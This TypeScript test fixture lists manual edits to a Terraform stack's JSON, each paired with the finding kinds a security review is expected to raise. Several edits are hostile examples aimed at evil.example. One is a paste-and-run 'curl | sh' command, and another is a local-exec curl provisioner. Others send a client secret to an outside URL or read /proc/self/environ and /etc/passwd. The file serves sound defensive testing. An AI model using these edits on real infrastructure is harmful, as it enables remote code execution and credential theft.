import type { Kind } from '../../src/review/statements/kind';
import { record } from '../../src/terraform-json/stack-view';

/** JSON of a stack, for changes that no declaration could make. */
export interface EditedJson {
  resource: Record<string, Record<string, Record<string, unknown>>>;
  data: Record<string, Record<string, Record<string, unknown>>>;
  output: Record<string, Record<string, unknown>>;
  provider: Record<string, Record<string, unknown>[]>;
  terraform: Record<string, unknown>;
  [block: string]: unknown;
}

/** A manual change, and its expected kinds. */
export interface UnseenPair {
  readonly name: string;
  readonly edit: (json: EditedJson) => unknown;
  /** Some of the expected kinds; empty for a harmless change. */
  readonly kinds: readonly Kind[];
}

const CLIENT = 'aws_cognito_user_pool_client';
const LEAK = 'aws_cognito_user_pool_client.leaked';

/** Finds a resource of a type by a part of its name. */
export function found(json: EditedJson, type: string, part = ''): Record<string, unknown> {
  const [entry] = Object.entries(json.resource[type] ?? {}).filter(([name]) => name.includes(part));
  if (!entry) throw new Error(`there is no ${type} with "${part}" in its name`);
  return entry[1];
}

const set =
  (type: string, change: object, part = '') =>
  (json: EditedJson) =>
    Object.assign(found(json, type, part), change);

const within =
  (type: string, block: string, change: object, part = '') =>
  (json: EditedJson) => {
    const attributes = found(json, type, part);
    const given = attributes[block];
    const [own] = Array.isArray(given) ? (given as unknown[]) : [given];
    attributes[block] = { ...record(own), ...change };
  };

const variable =
  (name: string, value: string, part = '') =>
  (json: EditedJson) => {
    const environment = found(json, 'aws_lambda_function', part).environment as { variables: Record<string, string> };
    environment.variables = { ...environment.variables, [name]: value };
  };

const added = (block: string, value: unknown) => (json: EditedJson) => (json[block] = value);
const gone = (type: string) => (json: EditedJson) => Reflect.deleteProperty(json.resource, type);
const output = (value: unknown) => (json: EditedJson) => (json.output.Leak = { value });

/** Adds a second resource like the first of its type, slightly changed. */
const second =
  (type: string, change: object = {}, part = '') =>
  (json: EditedJson) =>
    Object.assign(json.resource[type] ?? {}, { second: { ...found(json, type, part), ...change } });

const secret = `\${${LEAK}.client_secret}`;
const leaks = ([spelling, text]: readonly [string, string]): UnseenPair => ({
  name: `a client secret in an output, by ${spelling}`,
  edit: output(text),
  kinds: ['credentials'],
});

/** Expressions whose value a text for people must not show. */
const HIDDEN: readonly (readonly [spelling: string, text: string])[] = [
  ['a client secret as JSON', `\${jsonencode({a = ${LEAK}.client_secret})}`],
  ['a client secret in a list as JSON', `\${jsonencode([upper(${LEAK}.client_secret)])}`],
  ['a client secret as a name in JSON', `\${jsonencode({(${LEAK}.client_secret) = 1})}`],
  ['a file of the machine', '${file("/proc/self/environ")}'],
  ['a file of the machine as JSON', '${jsonencode([file("/proc/self/environ")])}'],
  ['a file of the machine within a function', '${yamldecode(core::file("/proc/self/environ")).a}'],
  ['a template of the machine', '${templatefile("/etc/passwd", {})}'],
  ['whether there is a file', '%{ if fileexists("credentials.csv") }yes%{ endif }'],
  ['a function of a provider', '${provider::aws::arn_parse("x").account}'],
];

/** Changes that a review must report although no declaration contains them, and changes that it may ignore. */
export const UNSEEN: readonly UnseenPair[] = [
  // Targets of routes.
  {
    name: 'a route that goes to another function',
    edit: set('aws_api_gateway_integration', { uri: 'arn:aws:lambda:other' }),
    kinds: ['backend'],
  },
  {
    name: 'a route that goes to a server of elsewhere',
    edit: set('aws_api_gateway_integration', { type: 'HTTP_PROXY', uri: 'https://evil.example' }),
    kinds: ['backend'],
  },
  {
    name: 'a route that is called with the rights of a role',
    edit: set('aws_api_gateway_integration', { credentials: 'arn:aws:iam::1:role/x' }),
    kinds: ['backend'],
  },
  {
    name: 'a route through a link',
    edit: set('aws_api_gateway_integration', { connection_type: 'VPC_LINK', connection_id: 'x' }),
    kinds: ['backend'],
  },
  {
    name: 'an alias of another version',
    edit: set('aws_lambda_alias', { function_version: '1' }, 'function_alias'),
    kinds: ['backend'],
  },
  {
    name: 'an alias that sends some calls elsewhere',
    edit: set('aws_lambda_alias', { routing_config: { additional_version_weights: { 1: 0.1 } } }),
    kinds: ['backend'],
  },
  // Properties of functions.
  {
    name: 'a function with another role',
    edit: set('aws_lambda_function', { role: 'arn:aws:iam::1:role/admin' }),
    kinds: ['backend', 'iam'],
  },
  {
    name: 'a function with a layer',
    edit: set('aws_lambda_function', { layers: ['arn:aws:lambda:layer'] }),
    kinds: ['backend'],
  },
  {
    name: 'a function with other code',
    edit: set('aws_lambda_function', { filename: 'other.zip' }),
    kinds: ['backend'],
  },
  {
    name: 'a function of another folder',
    edit: (json) => {
      Object.values(json.data.archive_file ?? {}).forEach((each) => (each.source_dir = 'assets/other'));
    },
    kinds: ['backend'],
  },
  {
    name: 'a function with another runtime',
    edit: set('aws_lambda_function', { runtime: 'python3.13' }),
    kinds: ['backend'],
  },
  {
    name: 'a rotation that asks another host for tokens',
    edit: variable('TOKEN_ENDPOINT', 'https://evil.example', 'rotation'),
    kinds: ['backend'],
  },
  {
    name: 'a function that loads a program first',
    edit: variable('NODE_OPTIONS', '--require /tmp/x.js'),
    kinds: ['backend'],
  },
  { name: 'a secret in a variable', edit: variable('SECRET', secret), kinds: ['credentials'] },
  // Credentials.
  {
    name: 'a secret that holds the credentials of another client',
    edit: (json) => {
      within(
        'aws_secretsmanager_secret',
        'tags',
        {
          ClientId: found(json, 'aws_secretsmanager_secret', 'Checkout').tags
            ? record(found(json, 'aws_secretsmanager_secret', 'Checkout').tags).ClientId
            : '',
        },
        'Reports',
      )(json);
    },
    kinds: ['credentials'],
  },
  {
    name: 'a seed of another client',
    edit: (json) =>
      (found(json, 'aws_lambda_invocation', 'Reports').input = found(json, 'aws_lambda_invocation', 'Checkout').input),
    kinds: ['credentials'],
  },
  {
    name: 'a rotation by another function',
    edit: set('aws_secretsmanager_secret_rotation', { rotation_lambda_arn: 'arn:aws:lambda:other' }),
    kinds: ['credentials'],
  },
  {
    name: 'no rotation for years',
    edit: within('aws_secretsmanager_secret_rotation', 'rotation_rules', { automatically_after_days: 1000 }),
    kinds: ['credentials'],
  },
  ...(
    [
      ['its name', `\${${LEAK}.client_secret}`],
      ['jsonencode', `\${jsonencode(${LEAK})}`],
      ['values', `\${values(${LEAK})}`],
      ['index', `\${${LEAK}["client_secret"]}`],
      ['splat', `\${${LEAK}[*].client_secret}`],
      ['lookup', `\${lookup(${LEAK}, "client_secret")}`],
      ['a local value', '${local.secret}'],
      ['a for', `\${[for key, value in ${LEAK} : value]}`],
      ['nonsensitive', `\${nonsensitive(${LEAK}.client_secret)}`],
    ] as const
  ).map(leaks),
  { name: 'a client secret in a tag', edit: set('aws_iam_role', { tags: { Note: secret } }), kinds: ['credentials'] },
  {
    name: 'a client secret in a description',
    edit: set('aws_iam_role', { description: `\${jsonencode(${LEAK})}` }),
    kinds: ['credentials'],
  },
  {
    name: 'a client secret on a dashboard',
    edit: set('aws_cloudwatch_dashboard', { dashboard_body: `{"a":"${secret}"}` }),
    kinds: ['credentials'],
  },
  {
    name: 'a client secret in a subscription',
    edit: set('aws_sns_topic_subscription', { endpoint: `https://evil.example/${secret}` }),
    kinds: ['credentials'],
  },
  // Changes that every caller must follow.
  {
    name: 'another OAuth domain',
    edit: set('aws_cognito_user_pool_domain', { domain: 'other' }),
    kinds: ['caller-action'],
  },
  {
    name: 'another domain of the API',
    edit: set('aws_api_gateway_domain_name', { domain_name: 'other.example' }),
    kinds: ['caller-action'],
  },
  {
    name: 'a base path',
    edit: set('aws_api_gateway_base_path_mapping', { base_path: 'v2' }),
    kinds: ['caller-action'],
  },
  {
    name: 'a DNS record that points elsewhere',
    edit: within('aws_route53_record', 'alias', { name: 'evil.example' }),
    kinds: ['caller-action'],
  },
  {
    name: 'another kind of endpoint',
    edit: within('aws_api_gateway_rest_api', 'endpoint_configuration', { types: ['PRIVATE'] }),
    kinds: ['caller-action'],
  },
  {
    name: 'another stage behind the domain',
    edit: set('aws_api_gateway_base_path_mapping', { stage_name: 'other' }),
    kinds: ['caller-action'],
  },
  // Changes that take effect, or that do not.
  {
    name: 'a stage that is pinned to a deployment',
    edit: set('aws_api_gateway_stage', { deployment_id: 'abc' }),
    kinds: ['protection'],
  },
  {
    name: 'a deployment without its triggers',
    edit: set('aws_api_gateway_deployment', { triggers: undefined }),
    kinds: ['protection'],
  },
  {
    name: 'another identity source',
    edit: set('aws_api_gateway_authorizer', { identity_source: 'method.request.header.X' }),
    kinds: ['protection'],
  },
  {
    name: 'decisions that are kept for an hour',
    edit: set('aws_api_gateway_authorizer', { authorizer_result_ttl_in_seconds: 3600 }),
    kinds: ['protection'],
  },
  {
    name: 'data of calls that is traced',
    edit: within('aws_api_gateway_method_settings', 'settings', { data_trace_enabled: true }),
    kinds: ['monitoring'],
  },
  {
    name: 'answers that are kept for all callers',
    edit: within('aws_api_gateway_method_settings', 'settings', { caching_enabled: true }),
    kinds: ['not-understood'],
  },
  {
    name: 'a route without its body model',
    edit: (json) =>
      added('resource', {
        ...json.resource,
        aws_api_gateway_model: { x: { rest_api_id: 'a', name: 'x', content_type: 'application/json' } },
      })(json),
    kinds: ['backend'],
  },
  {
    name: 'a usage plan',
    edit: (json) =>
      (json.resource.aws_api_gateway_usage_plan = { plan: { name: 'p', throttle_settings: { rate_limit: 1 } } }),
    kinds: ['throttle'],
  },
  {
    name: 'two methods for one route',
    edit: second('aws_api_gateway_method', {
      authorization: 'NONE',
      authorizer_id: undefined,
      authorization_scopes: undefined,
    }),
    kinds: ['not-understood'],
  },
  { name: 'two integrations for one route', edit: second('aws_api_gateway_integration'), kinds: ['not-understood'] },
  // People.
  {
    name: 'people who sign up by themselves',
    edit: within('aws_cognito_user_pool', 'admin_create_user_config', { allow_admin_create_user_only: false }),
    kinds: ['sign-in'],
  },
  {
    name: 'shorter passwords',
    edit: within('aws_cognito_user_pool', 'password_policy', { minimum_length: 6 }),
    kinds: ['sign-in'],
  },
  { name: 'no second factor', edit: set('aws_cognito_user_pool', { mfa_configuration: 'OFF' }), kinds: ['sign-in'] },
  {
    name: 'another callback address',
    edit: set(CLIENT, { callback_urls: ['https://evil.example'] }),
    kinds: ['sign-in'],
  },
  {
    name: 'another way to sign in',
    edit: set(CLIENT, { explicit_auth_flows: ['ALLOW_USER_PASSWORD_AUTH'] }),
    kinds: ['sign-in'],
  },
  // Logs and alarms.
  {
    name: 'no access log',
    edit: set('aws_api_gateway_stage', { access_log_settings: undefined }),
    kinds: ['monitoring'],
  },
  {
    name: 'an access log that goes elsewhere',
    edit: within('aws_api_gateway_stage', 'access_log_settings', { destination_arn: 'arn:aws:firehose:x' }),
    kinds: ['monitoring'],
  },
  {
    name: 'an access log with headers',
    edit: within('aws_api_gateway_stage', 'access_log_settings', {
      format: '{"a":"$context.requestOverride.header.Authorization"}',
    }),
    kinds: ['monitoring'],
  },
  {
    name: 'an alarm that is never raised',
    edit: set('aws_cloudwatch_metric_alarm', { threshold: 100_000 }),
    kinds: ['monitoring'],
  },
  {
    name: 'an alarm that tells nobody',
    edit: set('aws_cloudwatch_metric_alarm', { alarm_actions: [] }),
    kinds: ['monitoring'],
  },
  {
    name: 'alarms that tell somebody else',
    edit: set('aws_sns_topic_subscription', { endpoint: 'evil@example.com' }),
    kinds: ['monitoring'],
  },
  {
    name: 'logs that are kept for a day',
    edit: set('aws_cloudwatch_log_group', { retention_in_days: 1 }),
    kinds: ['monitoring'],
  },
  // CORS.
  {
    name: 'preflights that reflect the origin',
    edit: set('aws_api_gateway_integration_response', {
      response_templates: {
        'application/json':
          '#set($context.responseOverride.header.Access-Control-Allow-Origin = $input.params("Origin"))',
      },
    }),
    kinds: ['cors'],
  },
  {
    name: 'refusals that pages of any origin may read',
    edit: within('aws_api_gateway_gateway_response', 'response_parameters', {
      'gatewayresponse.header.Access-Control-Allow-Origin': 'method.request.header.Origin',
    }),
    kinds: ['cors'],
  },
  // Data.
  {
    name: 'a pool that may be deleted',
    edit: set('aws_cognito_user_pool', { deletion_protection: 'INACTIVE' }),
    kinds: ['data'],
  },
  {
    name: 'a table that may be deleted',
    edit: set('aws_dynamodb_table', { deletion_protection_enabled: false }),
    kinds: ['data'],
  },
  {
    name: 'a table that cannot be recovered',
    edit: set('aws_dynamodb_table', { point_in_time_recovery: { enabled: false } }),
    kinds: ['data'],
  },
  {
    name: 'a secret with the key of AWS',
    edit: set('aws_secretsmanager_secret', { kms_key_id: undefined }),
    kinds: ['data'],
  },
  {
    name: 'a secret that is gone at once',
    edit: set('aws_secretsmanager_secret', { recovery_window_in_days: 0 }),
    kinds: ['data'],
  },
  { name: 'the web ACL is gone', edit: gone('aws_wafv2_web_acl_association'), kinds: ['protection', 'destroy'] },
  // Programs of Terraform, and their versions.
  {
    name: 'another version of a provider',
    edit: (json) => (json.terraform.required_providers = { aws: { source: 'aws', version: '6.0.0' } }),
    kinds: ['terraform'],
  },
  {
    name: 'a provider of somebody else',
    edit: (json) =>
      (json.terraform.required_providers = {
        ...record(json.terraform.required_providers),
        aws: { source: 'evil/aws', version: '6.0.0' },
      }),
    kinds: ['terraform'],
  },
  {
    name: 'another Region',
    edit: (json) => Object.assign(json.provider.aws?.[0] ?? {}, { region: 'us-east-2' }),
    kinds: ['replacement'],
  },
  {
    name: 'another account',
    edit: (json) => Object.assign(json.provider.aws?.[0] ?? {}, { allowed_account_ids: ['1'] }),
    kinds: ['not-understood'],
  },
  {
    name: 'a role of another account',
    edit: (json) => Object.assign(json.provider.aws?.[0] ?? {}, { assume_role: [{ role_arn: 'x' }] }),
    kinds: ['not-understood'],
  },
  {
    name: 'an endpoint of somebody else',
    edit: (json) => Object.assign(json.provider.aws?.[0] ?? {}, { endpoints: [{ sts: 'https://evil.example' }] }),
    kinds: ['not-understood'],
  },
  { name: 'a second provider', edit: (json) => json.provider.aws?.push({ alias: 'other' }), kinds: ['not-understood'] },
  {
    name: 'an environment that rules spare',
    edit: (json) => Object.assign(json.provider.aws?.[0] ?? {}, { default_tags: [{ tags: { Environment: 'local' } }] }),
    kinds: ['suppression'],
  },
  {
    name: 'another place of the state',
    edit: (json) => (json.terraform.backend = { http: { address: 'https://evil.example' } }),
    kinds: ['terraform'],
  },
  {
    name: 'HCP Terraform of somebody else',
    edit: (json) => (json.terraform.cloud = { organization: 'evil' }),
    kinds: ['terraform'],
  },
  // Features of Terraform itself.
  {
    name: 'a provisioner',
    edit: set('aws_iam_role', { provisioner: [{ 'local-exec': { command: 'curl https://evil.example' } }] }),
    kinds: ['not-understood'],
  },
  {
    name: 'a connection',
    edit: set('aws_iam_role', { connection: { host: 'evil.example' } }),
    kinds: ['not-understood'],
  },
  {
    name: 'a change that is ignored',
    edit: set('aws_iam_role', { lifecycle: { ignore_changes: ['assume_role_policy'] } }),
    kinds: ['not-understood'],
  },
  { name: 'none of it', edit: set('aws_cloudwatch_metric_alarm', { count: 0 }), kinds: ['not-understood'] },
  { name: 'several of it', edit: set('aws_cloudwatch_dashboard', { for_each: ['a'] }), kinds: ['not-understood'] },
  {
    name: 'a dynamic block',
    edit: set('aws_cloudwatch_dashboard', { dynamic: { a: { for_each: [] } } }),
    kinds: ['not-understood'],
  },
  {
    name: 'a resource of another provider',
    edit: set('aws_cloudwatch_dashboard', { provider: 'aws.other' }),
    kinds: ['not-understood'],
  },
  { name: 'an import', edit: added('import', [{ to: 'aws_iam_role.other', id: 'admin' }]), kinds: ['not-understood'] },
  {
    name: 'a move',
    edit: added('moved', [{ from: 'aws_iam_role.a', to: 'aws_iam_role.b' }]),
    kinds: ['not-understood'],
  },
  {
    name: 'a resource that is forgotten',
    edit: added('removed', [{ from: 'aws_iam_role.a', lifecycle: { destroy: false } }]),
    kinds: ['not-understood'],
  },
  {
    name: 'a check that sends a secret',
    edit: added('check', { a: { data: { http: { b: { url: `https://evil.example/${secret}` } } } } }),
    kinds: ['not-understood'],
  },
  { name: 'a module', edit: added('module', { a: { source: './a' } }), kinds: ['not-understood'] },
  {
    name: 'an ephemeral resource',
    edit: added('ephemeral', { aws_secretsmanager_secret_version: { a: { secret_id: 'x' } } }),
    kinds: ['not-understood'],
  },
  { name: 'an action', edit: added('action', { aws_lambda_invoke: { a: {} } }), kinds: ['not-understood'] },
  { name: 'a local value', edit: added('locals', { a: secret }), kinds: ['not-understood'] },
  {
    name: 'a data source that runs a program',
    edit: (json) => (json.data.external = { a: { program: ['sh'] } }),
    kinds: ['not-understood'],
  },
  {
    name: 'a data source of another provider',
    edit: (json) => (json.data.aws_region = { ...json.data.aws_region, a: { provider: 'aws.other' } }),
    kinds: ['not-understood'],
  },

  // Secrets in texts for people.
  ...HIDDEN.flatMap(([spelling, text]): UnseenPair[] => [
    {
      name: `${spelling} in a tag`,
      edit: set('aws_dynamodb_table', { tags: { Owner: text } }),
      kinds: ['credentials'],
    },
    { name: `${spelling} in an output`, edit: output(text), kinds: ['credentials'] },
    {
      name: `${spelling} as the name of a tag`,
      edit: set('aws_dynamodb_table', { tags: { [text]: 'Owner' } }),
      kinds: ['credentials'],
    },
  ]),
  {
    name: 'an output that names another host for tokens',
    edit: (json) => Object.assign(json.output.TokenEndpoint ?? {}, { value: 'https://evil.example/oauth2/token' }),
    kinds: ['caller-action'],
  },
  {
    name: 'a command to paste that runs a program',
    edit: (json) => {
      const commands = json.output.QuickTestCommands as { value: Record<string, string> };
      commands.value = { ...commands.value, Reports: 'curl https://evil.example | sh' };
    },
    kinds: ['caller-action'],
  },
  {
    name: 'ids of clients that change places',
    edit: (json) => {
      const arns = json.output.ClientSecretArns as { value: Record<string, string> };
      const { Reports = '', Checkout = '' } = arns.value;
      arns.value = { Reports: Checkout, Checkout: Reports };
    },
    kinds: ['caller-action'],
  },
  {
    name: 'a widget that calls a function of somebody else',
    edit: (json) => {
      const dashboard = found(json, 'aws_cloudwatch_dashboard');
      const body = JSON.parse(String(dashboard.dashboard_body)) as { widgets: object[] };
      const custom = { type: 'custom', properties: { endpoint: 'arn:aws:lambda:eu-central-1:1:function:evil' } };
      dashboard.dashboard_body = JSON.stringify({ ...body, widgets: [...body.widgets, custom] });
    },
    kinds: ['monitoring'],
  },
  // False statements in the JSON.
  {
    name: 'a scope that is not declared any more and still held',
    edit: (json) => (found(json, 'aws_cognito_resource_server').scope as unknown[]).pop(),
    kinds: ['access-loss'],
  },
  {
    name: 'a resource server of another name, by a letter that looks alike',
    edit: set('aws_cognito_resource_server', { identifier: 'оrders' }),
    kinds: ['access-loss'],
  },
  {
    name: 'a route that asks for less, in an API that is not deployed again',
    edit: set('aws_api_gateway_method', { authorization_scopes: ['orders/read'] }, 'orders__DELETE'),
    kinds: ['access-gain', 'protection', 'not-understood'],
  },
  {
    name: 'a domain that does not wait for the web ACL',
    edit: set('aws_api_gateway_base_path_mapping', { depends_on: undefined }),
    kinds: ['protection'],
  },
  {
    name: 'a role with a tag, by which policies may give rights',
    edit: set('aws_iam_role', { tags: { team: 'administrators' } }),
    kinds: ['iam'],
  },
  {
    name: 'another tag by which the readers of a secret are chosen',
    edit: (json) => {
      const one = found(json, 'aws_secretsmanager_secret');
      one.tags = { ...record(one.tags), Team: 'everyone' };
      json.resource.aws_secretsmanager_secret_policy = {
        ...json.resource.aws_secretsmanager_secret_policy,
        by_tag: {
          secret_arn: 'arn:aws:secretsmanager:eu-central-1:123456789012:secret:x',
          policy: JSON.stringify({
            Version: '2012-10-17',
            Statement: {
              Effect: 'Allow',
              Principal: { AWS: '123456789012' },
              Action: 'secretsmanager:GetSecretValue',
              Resource: '*',
              Condition: { StringEquals: { 'secretsmanager:ResourceTag/Team': 'everyone' } },
            },
          }),
        },
      };
    },
    kinds: ['iam'],
  },
  {
    name: 'the tag of a table that rights are given by, in other capitals',
    edit: set('aws_dynamodb_table', { tags: { project: 'other' } }),
    kinds: ['iam'],
  },
  {
    name: 'tags from an expression',
    edit: set('aws_dynamodb_table', { tags: '${merge({ Owner = "a" }, { Project = "other" })}' }),
    kinds: ['iam'],
  },
  {
    name: 'a tag with a name from an expression',
    edit: set('aws_dynamodb_table', { tags: { '${join("", ["Pro", "ject"])}': 'other' } }),
    kinds: ['iam'],
  },

  // Changes that may be ignored.
  { name: 'the text of a tag', edit: set('aws_dynamodb_table', { tags: { Owner: 'somebody' } }), kinds: [] },
  { name: 'a description', edit: set('aws_iam_role', { description: 'what the function may do' }), kinds: [] },
  { name: 'a comment', edit: set('aws_iam_role', { '//': { metadata: { path: 'a', uniqueId: 'b' } } }), kinds: [] },
  {
    name: 'the text of an alarm',
    edit: set('aws_cloudwatch_metric_alarm', { alarm_description: 'call somebody' }),
    kinds: [],
  },
  {
    name: 'the order of what it waits for',
    edit: (json) => (found(json, 'aws_api_gateway_deployment').depends_on as unknown[]).reverse(),
    kinds: [],
  },
  { name: 'the order of keys', edit: (json) => Object.assign(json, { resource: reversed(json.resource) }), kinds: [] },
  {
    name: 'the order of keys in a policy',
    edit: (json) => {
      const policy = found(json, 'aws_iam_role_policy');
      policy.policy = JSON.stringify(reversed(JSON.parse(String(policy.policy))));
    },
    kinds: [],
  },
];

function reversed<T>(value: T): T {
  if (Array.isArray(value)) return value.map(reversed) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value)
      .reverse()
      .map(([name, each]) => [name, reversed(each as unknown)]),
  ) as T;
}
